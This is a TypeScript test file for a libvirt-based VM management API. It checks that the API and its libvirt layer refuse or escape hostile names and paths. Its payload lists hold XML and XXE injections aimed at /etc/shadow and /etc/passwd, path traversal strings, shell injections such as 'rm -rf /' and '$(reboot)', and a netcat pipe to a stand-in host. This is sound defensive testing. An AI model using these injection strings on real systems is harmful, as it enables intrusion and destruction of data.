/**
 * Injection through names, ids and disk paths (XML, path traversal, shell metacharacters) is refused at the API,
 * with the field named and nothing written or started; and, as a second line, the libvirt layer's validators and
 * its escaping XML serializer refuse or neutralise the same strings should one ever get past the API.
 */
import type { Client, Connection } from '@temporalio/client';
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import pino from 'pino';
import { assertDomainName, assertPathUnderRoot, buildDomainXml, parseNovaCronMetadata } from '../native/libvirt';
import { createMetrics, type NovacronMetrics } from '../observability/metrics';
import { createTestDatabase, temporalClient, testConfig, type TestDatabase } from '../test/support/services';
import { bearer, mintToken } from '../test/support/tokens';
import { buildApp, type BuiltApp } from './app';

const NAMES = [
  "vm1</name><devices><disk type='file'><source file='/etc/shadow'/></disk></devices><name>x",
  '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '../../../../etc/passwd',
  '..',
  'disk/../../root',
  'vm; rm -rf / #',
  '$(reboot)',
  '`id`',
  'a|nc evil.invalid 1',
  'vm\u0000.qcow2',
  "x' --",
  '-o ProxyCommand=sh',
];

const PATHS = [
  '/var/lib/novacron/images/../../../etc/shadow',
  '/var/lib/novacron/images/./vm.qcow2',
  '/var/lib/novacron/imagesX/vm.qcow2',
  '/var/lib/novacron/images/vm.qcow2;reboot',
  '/var/lib/novacron/images/$(id).qcow2',
  "/var/lib/novacron/images/a'/><source file='/etc/passwd",
  '/etc/passwd',
  'relative/vm.qcow2',
  '/var/lib/novacron/images/vm\nqcow2',
];

describe('the libvirt layer refuses or escapes hostile names and paths', () => {
  test('domain names and disk paths outside the safe patterns are refused', () => {
    for (const name of NAMES) assert.throws(() => assertDomainName(name), /domain name/, name);
    for (const path of PATHS) {
      assert.throws(() => assertPathUnderRoot({ path, root: '/var/lib/novacron/images' }), /path/, path);
    }
    assertPathUnderRoot({ path: '/var/lib/novacron/images/vm-1.qcow2', root: '/var/lib/novacron/images' });
  });

  test('free text that reaches domain XML is escaped by the serializer, never interpreted', () => {
    const owner = "alice</novacron:owner><novacron:vm-id>stolen</novacron:vm-id><x a='&amp;";
    const xml = buildDomainXml({
      name: 'vm-1',
      uuid: '00000000-0000-4000-8000-000000000001',
      vcpus: 1,
      memoryMiB: 64,
      disks: [{ path: '/var/lib/novacron/images/vm-1.qcow2', format: 'qcow2', target: 'vda' }],
      networks: [],
      metadata: { vmId: 'vm-1', owner, labels: { team: '"><evil/>' } },
      imageRoot: '/var/lib/novacron/images',
      domainType: 'qemu',
      oemStrings: [NAMES[0]!, "</entry></oemStrings><evil/><oemStrings><entry>'&amp;"],
    });
    assert.ok(!xml.includes('<evil'), xml);
    assert.ok(!xml.includes("<source file='/etc/shadow'"), xml);
    assert.equal((xml.match(/<novacron:vm-id>/g) ?? []).length, 1);
    assert.deepEqual(parseNovaCronMetadata(xml), { vmId: 'vm-1', owner, labels: { team: '"><evil/>' } });
  });
});

describe('the API refuses injection in every name, id and path parameter', () => {
  let db: TestDatabase;
  let built: BuiltApp;
  let client: Client;
  let connection: Connection;
  let metrics: NovacronMetrics;
  let token: string;

  before(async () => {
    db = await createTestDatabase();
    ({ client, connection } = await temporalClient());
    metrics = createMetrics({ service: 'injection-test' });
    built = await buildApp({
      // Hundreds of requests from one token; the rate limit has its own test.
      config: testConfig({
        databaseUrl: db.url,
        overrides: { security: { rateLimit: { burst: 1_000_000, refillPerSecond: 1_000_000 } } },
      }),
      temporal: client,
      pool: db.pool,
      metrics,
      logger: pino({ level: 'silent' }),
      checkResponses: true,
    });
    token = await mintToken(db.pool, { roles: ['admin'], name: 'injector' });
  });

  after(async () => {
    await built.close();
    await connection.close();
    await db.drop();
  });

  interface JsonSchema {
    type?: string | string[];
    pattern?: string;
    format?: string;
    enum?: unknown[];
    properties?: Record<string, JsonSchema>;
    items?: JsonSchema;
    anyOf?: JsonSchema[];
  }

  /**
   * Free text by design, reaching libvirt only through the escaping serializer (tested above): an SMBIOS OEM string
   * carries whatever settings a guest reads, so its pattern only bounds length and keeps it printable.
   */
  const FREE_TEXT_FIELDS = new Set(['oemStrings']);

  /** Every constrained string field of a body schema, as a path of keys (a number is an array index). */
  function identifierFields(schema: JsonSchema, at: Array<string | number> = []): Array<Array<string | number>> {
    if (schema.anyOf) return schema.anyOf.flatMap((s) => identifierFields(s, at));
    if (schema.properties) {
      return Object.entries(schema.properties)
        .filter(([key]) => !FREE_TEXT_FIELDS.has(key))
        .flatMap(([key, s]) => identifierFields(s, [...at, key]));
    }
    if (schema.items) return identifierFields(schema.items, [...at, 0]);
    return schema.pattern || schema.format === 'uuid' ? [at] : [];
  }

  function isUuid(schema: JsonSchema): boolean {
    return schema.format === 'uuid' || (schema.pattern ?? '').includes('{8}');
  }

  function withValue(path: Array<string | number>, value: string): unknown {
    const [head, ...rest] = path;
    if (head === undefined) return value;
    const inner = withValue(rest, value);
    return typeof head === 'number' ? [inner] : { [head]: inner };
  }

  async function stateHash(): Promise<string> {
    const tables = await db.pool.query<{ name: string }>(
      "SELECT table_name AS name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1",
    );
    const parts: string[] = [];
    for (const { name } of tables.rows) {
      const r = await db.pool.query<{ h: string | null }>(
        `SELECT md5(string_agg(t::text, ',' ORDER BY t::text)) AS h FROM "${name}" t`,
      );
      parts.push(`${name}=${r.rows[0]!.h ?? ''}`);
    }
    const starts = (await metrics.workflowStarts.get()).values.reduce((sum, v) => sum + v.value, 0);
    return `${parts.join(';')};starts=${starts}`;
  }

  test('a hostile value in any identifier field or path parameter is a 400 naming it; nothing changes', async () => {
    const doc = (await built.app.inject({ method: 'GET', url: '/openapi.json', headers: bearer(token) })).json<{
      paths: Record<
        string,
        Record<
          string,
          {
            parameters?: Array<{ in: string; name: string; schema: JsonSchema }>;
            requestBody?: { content: Record<string, { schema: JsonSchema }> };
          }
        >
      >;
    }>();
    const before = await stateHash();
    let checked = 0;
    for (const [template, ops] of Object.entries(doc.paths)) {
      for (const [method, op] of Object.entries(ops)) {
        const pathSchemas = (op.parameters ?? []).filter((p) => p.in === 'path');
        const pathParams = pathSchemas.map((p) => p.name);
        const bodySchema = op.requestBody?.content['application/json']?.schema;
        const bodyFields = bodySchema ? identifierFields(bodySchema) : [];
        // A valid path, so that a body field is what the route refuses (an unknown VM id is fine: bodies are checked first).
        const safeUrl = pathSchemas.reduce(
          (url, p) => url.replace(`{${p.name}}`, isUuid(p.schema) ? '00000000-0000-4000-8000-000000000000' : 'probe-1'),
          template,
        );
        for (const value of [...NAMES, ...PATHS]) {
          for (const param of pathParams) {
            const url = template.replace(`{${param}}`, encodeURIComponent(value)).replace(/\{[^}]+\}/g, 'probe-1');
            const response = await built.app.inject({
              method: method.toUpperCase(),
              url,
              headers: bearer(token),
              ...(bodySchema ? { payload: {} } : {}),
            });
            // A value with a slash may no longer match the route at all; that is a refusal too.
            assert.ok([400, 404].includes(response.statusCode), `${method} ${url} -> ${response.statusCode}`);
            if (response.statusCode === 400) {
              const issues = response.json<{ issues?: Array<{ field: string }> }>().issues ?? [];
              assert.ok(
                issues.some((i) => i.field === `params.${param}`),
                `${method} ${url}: ${response.body}`,
              );
            }
            checked++;
          }
          for (const field of bodyFields) {
            const response = await built.app.inject({
              method: method.toUpperCase(),
              url: safeUrl,
              headers: bearer(token),
              payload: withValue(field, value) as Record<string, unknown>,
            });
            assert.equal(response.statusCode, 400, `${method} ${template} body.${field.join('.')}=${value}`);
            const issues = response.json<{ issues?: Array<{ field: string }> }>().issues ?? [];
            const name = `body.${field.join('.')}`;
            assert.ok(
              issues.some((i) => i.field === name),
              `${name}=${JSON.stringify(value)} is refused by name: ${response.body}`,
            );
            checked++;
          }
        }
      }
    }
    assert.ok(checked > 100, `checked ${checked} injections`);
    assert.equal(await stateHash(), before, 'no row written, no workflow started');
  });
});
